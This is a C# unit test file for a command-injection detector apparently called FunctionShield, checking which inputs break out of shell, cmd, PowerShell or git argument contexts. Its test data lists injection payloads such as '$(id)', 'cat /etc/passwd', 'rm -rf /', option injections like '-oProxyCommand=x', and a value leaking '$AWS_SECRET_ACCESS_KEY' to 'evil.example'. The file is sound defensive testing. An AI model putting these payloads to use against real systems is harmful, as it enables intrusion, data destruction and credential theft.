using System.Text;
using CsCheck;
using FunctionShield.Calls;
using FunctionShield.Correlation;
using FunctionShield.Findings;

namespace FunctionShield.Tests.Correlation;

public class CommandCorrelatorTests
{
    [Theory]
    [InlineData("ping -c 1 {}", "8.8.8.8; id")]
    [InlineData("ping -c 1 {}", "8.8.8.8\nid")]
    [InlineData("ping -c 1 {}", "$(id)")]
    [InlineData("ping -c 1 {}", "`id`")]
    [InlineData("ping -c 1 {}", "a > /tmp/x")]
    [InlineData("ping -c 1 {}", "$AWS_SECRET_ACCESS_KEY.evil.example")]
    [InlineData("ping -c 1 {}", "${x:-id}")]
    [InlineData("tar xf {} -C /work", "a #")]
    [InlineData("grep '{}' log", "x' -f '/etc/passwd")]
    [InlineData("grep '{}' log", "x'; id; '")]
    [InlineData("grep \"{}\" log", "a$(id)")]
    [InlineData("grep \"{}\" log", "a`id`")]
    [InlineData("grep \"{}\" log", "a\"|id|\"")]
    [InlineData("cat <<E\n{}\nE\n", "x\nE\nid")]
    [InlineData("cat <<E\n{}\nE\n", "x $(id)")]
    [InlineData("{}", "cat /etc/passwd")]
    [InlineData("{} -f", "/bin/reboot")]
    [InlineData("diff <(cat a) <({})", "rm -rf /")]
    public void An_input_that_adds_structure_is_proof(string template, string input) =>
        Assert.NotNull(Correlated.Line(template.Replace("{}", input, StringComparison.Ordinal), input));

    [Theory]
    [InlineData("ping -c 1 {}", "8.8.8.8")]
    [InlineData("ping -c 1 {}", "\"a; b\"")]
    [InlineData("ping -c 1 {}", "costs $5")]
    [InlineData("tar xf {} -C /work", "a#1.tgz")]
    [InlineData("grep '{}' log", "x; id")]
    [InlineData("grep '{}' log", "$(id) `id` | tee > x & y")]
    [InlineData("grep \"{}\" log", "a; id | b")]
    [InlineData("grep \"{}\" log", "{\"a\":\"b\"}")]
    [InlineData("cat <<E\n{}\nE\n", "x; E; id")]
    [InlineData("cat <<'E'\n{}\nE\n", "x $(id)")]
    [InlineData("ls {} && echo done", "-l file")]
    [InlineData("time {}", "ls -l")]
    [InlineData("{} --mime x.png", "file")]
    public void An_input_that_stays_one_piece_of_data_is_none(string template, string input) =>
        Assert.Null(Correlated.Line(template.Replace("{}", input, StringComparison.Ordinal), input));

    [Theory]
    [InlineData("ping -c 1 {}", "8.8.8.8; ID", "8.8.8.8; id")]
    [InlineData("ping -c 1 {}", "  8.8.8.8;   cat  /etc/passwd ", "8.8.8.8; cat /etc/passwd")]
    [InlineData("ping -c 1 {}", "8.8.8.8'; cat /etc/passwd", "8.8.8.8; cat /etc/passwd")]
    [InlineData("ping -c 1 {}", "8.8.8.8; cat /etc/passwd and a good deal more", "8.8.8.8; cat /etc/passwd")]
    [InlineData("ping -c 1 {}", "host=8.8.8.8; cat /etc/passwd", "8.8.8.8; cat /etc/passwd")]
    [InlineData("ping -c 1 {} -x", "8.8.8.8\tx\n$(id > /tmp/o)", "8.8.8.8 x $(id > /tmp/o)")]
    public void What_a_handler_does_to_an_input_hides_nothing(string template, string input, string written)
    {
        Assert.NotNull(Correlated.Line(template.Replace("{}", written, StringComparison.Ordinal), input));
        Assert.Null(Correlated.Line(template.Replace("{}", "'" + written.Replace("'", "", StringComparison.Ordinal) + "'", StringComparison.Ordinal), input));
    }

    [Fact]
    public void Words_that_an_input_shares_with_the_code_are_no_proof()
    {
        Assert.Null(Correlated.Line("cat report.txt | grep -c error | tee count.txt", "please run cat on report.txt and grep for errors"));
        Assert.Null(Correlated.Line("convert in.png -resize 100x100 out.png && echo done", "convert", "resize", "100x100", "done"));
    }

    [Theory]
    [InlineData("--upload-pack=/tmp/x", true)]
    [InlineData("-oProxyCommand=x", true)]
    [InlineData("feature/-x", false)]
    [InlineData("-l", false)]
    public void An_input_that_becomes_an_option_is_told_but_is_no_proof(string input, bool told)
    {
        Assert.Equal(told, Option(OutboundCall.Exec(Encoding.UTF8.GetBytes("git\0fetch\0" + input)), input));
        Assert.Equal(told, Option(OutboundCall.Shell(Encoding.UTF8.GetBytes("git fetch " + input)), input));
        Assert.False(Option(OutboundCall.Exec(Encoding.UTF8.GetBytes("git\0fetch\0--\0" + input)), input));
        Assert.False(Option(OutboundCall.Shell(Encoding.UTF8.GetBytes("git fetch -- " + input)), input));
    }

    private static bool Option(in OutboundCall call, string input) =>
        Shield.Create().Examine(call, [input]) is [{ Confidence: Confidence.Medium, Reason: var reason }] && reason.Contains("CWE-88", StringComparison.Ordinal);

    [Fact]
    public void An_escaped_quote_keeps_the_input_inside()
    {
        Assert.Null(Correlated.Line("grep 'a'\\'' | id ;' log", "a' | id ;"));
        Assert.Null(Correlated.Line("cat '/tmp/'\\''| sleep 9 ;'", "'| sleep 9 ;"));
        Assert.NotNull(Correlated.Line("grep 'a' | id ;' log", "a' | id ;"));
    }

    [Theory]
    [InlineData("ping {}", "x & whoami")]
    [InlineData("ping \"{}\"", "x\" & whoami & \"")]
    [InlineData("ping \"{}\"", "%COMSPEC%")]
    public void Cmd_breaks_at_its_own_operators(string template, string input) =>
        Assert.NotNull(Correlated.Cmd(template.Replace("{}", input, StringComparison.Ordinal), input));

    [Theory]
    [InlineData("ping {}", "x;whoami")]
    [InlineData("ping \"{}\"", "R&D 100% a|b")]
    public void What_cmd_does_not_read_as_an_operator_is_data(string template, string input) =>
        Assert.Null(Correlated.Cmd(template.Replace("{}", input, StringComparison.Ordinal), input));

    [Theory]
    [InlineData("; id")]
    [InlineData("$(id)")]
    [InlineData("a\nb | c > d")]
    public void Arguments_of_an_array_are_data_whatever_they_hold(string input)
    {
        Assert.Null(Correlated.Exec(["git", "log", "--grep", input], input));
        Assert.Null(Correlated.Exec(["find", ".", "(", "-name", input, ")", "-exec", "rm", "{}", ";"], input));
        Assert.NotNull(Correlated.Exec(["sh", "-c", "git log --grep " + input], input));
    }

    [Fact]
    public void Two_hostile_inputs_in_an_array_are_still_data() =>
        Assert.Null(Correlated.Exec(["git", "commit", "-m", "; a", "--author", "; b $(c)"], "; a", "; b $(c)"));

    [Fact]
    public void The_program_and_the_script_must_not_come_from_an_input()
    {
        Assert.NotNull(Correlated.Exec(["/tmp/x/run", "-f"], "/tmp/x/run"));
        Assert.NotNull(Correlated.Exec(["/opt/tools/../../bin/sh", "-f"], "../../bin/sh"));
        Assert.NotNull(Correlated.Exec(["bash", "/tmp/upload.sh"], "/tmp/upload.sh"));
        Assert.Null(Correlated.Exec(["ls", "-l"], "ls"));
        Assert.Null(Correlated.Exec(["/usr/bin/convert", "/tmp/a.png"], "/tmp/a.png"));
    }

    [Theory]
    [InlineData("powershell", "-Command", "Get-Item {}", "x; whoami", true)]
    [InlineData("powershell", "-Command", "Get-Item '{}'", "x’; whoami; ’", true)]
    [InlineData("powershell", "-Command", "Get-Item '{}'", "x; $(whoami)", false)]
    [InlineData("cmd", "/c", "ping {}", "x & dir", true)]
    [InlineData("cmd", "/c", "ping {}", "x;y", false)]
    public void A_shell_inside_an_array_reads_its_own_language(string shell, string option, string template, string input, bool proof) =>
        Assert.Equal(proof, Correlated.Exec([shell, option, template.Replace("{}", input, StringComparison.Ordinal)], input) is not null);

    [Fact]
    public void Single_quoted_and_escaped_text_is_never_proof() =>
        Gen.Char["'\"`$(){}|&; \\\n#abAB/"].Array[2, 30].Select(chars => new string(chars)).Sample(input =>
            Correlated.Line("grep '" + input.Replace("'", "'\\''", StringComparison.Ordinal) + "' log", input.Replace("'", "", StringComparison.Ordinal)) is null
            || input.Contains('\'', StringComparison.Ordinal));

    [Fact]
    public void Long_lines_and_many_occurrences_are_survived()
    {
        foreach (string piece in new[] { "$a", "\n\n", "'a'", "\"a\"", "a ", "a#" })
            Correlated.Line("x" + string.Concat(Enumerable.Repeat(piece, 100_000)), piece, "a$", "\na", "a\"\"a");
        Assert.Null(Correlated.Line(new string('\n', 200_000), new string('\n', 100_000) + "a"));
    }

    [Fact]
    public void Nothing_found_allocates_nothing()
    {
        byte[] line = Encoding.UTF8.GetBytes("convert '" + new string('a', 100) + "; x' -resize 100x100 \"$HOME/out.png\" | tee -a /tmp/log");
        var invocation = Correlated.With(new string('a', 100) + "; x", "unrelated", "resize 100x100", "convert it with tee and log, please");
        Span<Finding> slots = new Finding[4];
        var findings = new FindingBuffer(slots);
        CommandCorrelator.Correlate(OutboundCall.Shell(line), invocation, ref findings);
        long before = GC.GetAllocatedBytesForCurrentThread();
        for (int i = 0; i < 100; i++)
            CommandCorrelator.Correlate(OutboundCall.Shell(line), invocation, ref findings);
        Assert.Equal(0, GC.GetAllocatedBytesForCurrentThread() - before);
        Assert.Equal(0, findings.Count);
    }
}
